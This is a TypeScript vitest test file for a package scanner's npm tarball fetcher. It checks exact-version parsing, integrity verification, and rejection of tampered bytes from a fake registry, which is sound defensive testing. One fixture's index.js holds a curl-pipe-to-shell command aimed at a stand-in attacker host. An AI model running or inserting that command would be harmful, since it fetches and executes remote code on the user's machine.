import crypto from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fetchNpmTarball, fetchPinnedTarball, parseExactSpec } from "@/scanner/target/fetch-npm-tarball";
import { digestTarball } from "@/scanner/target/tarball-digests";
import { packTarball, startFakeRegistry } from "../support/fake-npm-registry";

describe("parseExactSpec", () => {
  it.each([
    ["is-number@7.0.0", { name: "is-number", version: "7.0.0" }],
    ["@modelcontextprotocol/server-memory@2025.11.25", { name: "@modelcontextprotocol/server-memory", version: "2025.11.25" }],
  ])("reads %s", (spec, expected) => expect(parseExactSpec(spec)).toEqual(expected));

  it.each(["is-number", "is-number@^7.0.0", "is-number@latest", "is-number@7", "file:../x", "https://example.com/x.tgz", "git+https://github.com/a/b.git", "@@@"])(
    "refuses %s: a scan is of exact bytes",
    (spec) => expect(() => parseExactSpec(spec)).toThrowError(expect.objectContaining({ code: "bad-target" })),
  );
});

describe("fetchNpmTarball from the npm registry", () => {
  it("fetches the exact published bytes and records their sha512 integrity and sha256", async () => {
    const fetched = await fetchNpmTarball("is-number@7.0.0");
    // The integrity npm has published for is-number@7.0.0 since 2019.
    expect(fetched.integrity).toBe("sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==");
    expect(fetched.sha256).toBe(crypto.createHash("sha256").update(fetched.bytes).digest("hex"));
    expect(fetched.size).toBe(fetched.bytes.length);
    expect(fetched).toMatchObject({ name: "is-number", version: "7.0.0" });
    expect(fetched.resolved).toMatch(/is-number-7\.0\.0\.tgz$/);
  });

  it("says a version that does not exist is not found", async () => {
    await expect(fetchNpmTarball("is-number@99.99.99")).rejects.toMatchObject({ code: "not-found" });
  });
});

describe("fetchNpmTarball from a registry serving tampered bytes", () => {
  let registry: Awaited<ReturnType<typeof startFakeRegistry>>;
  let honest: Buffer;

  beforeAll(async () => {
    honest = await packTarball({ "package.json": JSON.stringify({ name: "honest-pkg", version: "1.0.0" }), "index.js": "module.exports = 1;\n" });
    const tampered = await packTarball({ "package.json": JSON.stringify({ name: "tampered-pkg", version: "1.0.0" }), "index.js": "require('child_process').exec('curl evil.example | sh');\n" });
    registry = await startFakeRegistry([
      { name: "honest-pkg", version: "1.0.0", tarball: honest, integrity: digestTarball(honest).integrity },
      // The packument vouches for one tarball; the download serves another.
      { name: "tampered-pkg", version: "1.0.0", tarball: tampered, integrity: digestTarball(honest).integrity },
    ]);
  });
  afterAll(() => registry.close());

  it("accepts bytes that match the published integrity", async () => {
    const fetched = await fetchNpmTarball("honest-pkg@1.0.0", { registry: registry.url });
    expect(fetched.bytes.equals(honest)).toBe(true);
  });

  it("refuses bytes that do not match the published integrity", async () => {
    await expect(fetchNpmTarball("tampered-pkg@1.0.0", { registry: registry.url })).rejects.toMatchObject({ code: "integrity-mismatch" });
  });

  it("fetches bytes from an address pinned by a known integrity, without reading the packument", async () => {
    const before = registry.packumentRequests.length;
    const fetched = await fetchPinnedTarball("honest-pkg@1.0.0", `${registry.url}honest-pkg/-/honest-pkg-1.0.0.tgz`, digestTarball(honest).integrity);
    expect(fetched.bytes.equals(honest)).toBe(true);
    expect(fetched).toMatchObject({ name: "honest-pkg", version: "1.0.0", integrity: digestTarball(honest).integrity });
    expect(registry.packumentRequests.length).toBe(before);
  });

  it("refuses bytes from a pinned address that do not match the pin", async () => {
    await expect(fetchPinnedTarball("tampered-pkg@1.0.0", `${registry.url}tampered-pkg/-/tampered-pkg-1.0.0.tgz`, digestTarball(honest).integrity)).rejects.toMatchObject({ code: "integrity-mismatch" });
  });
});
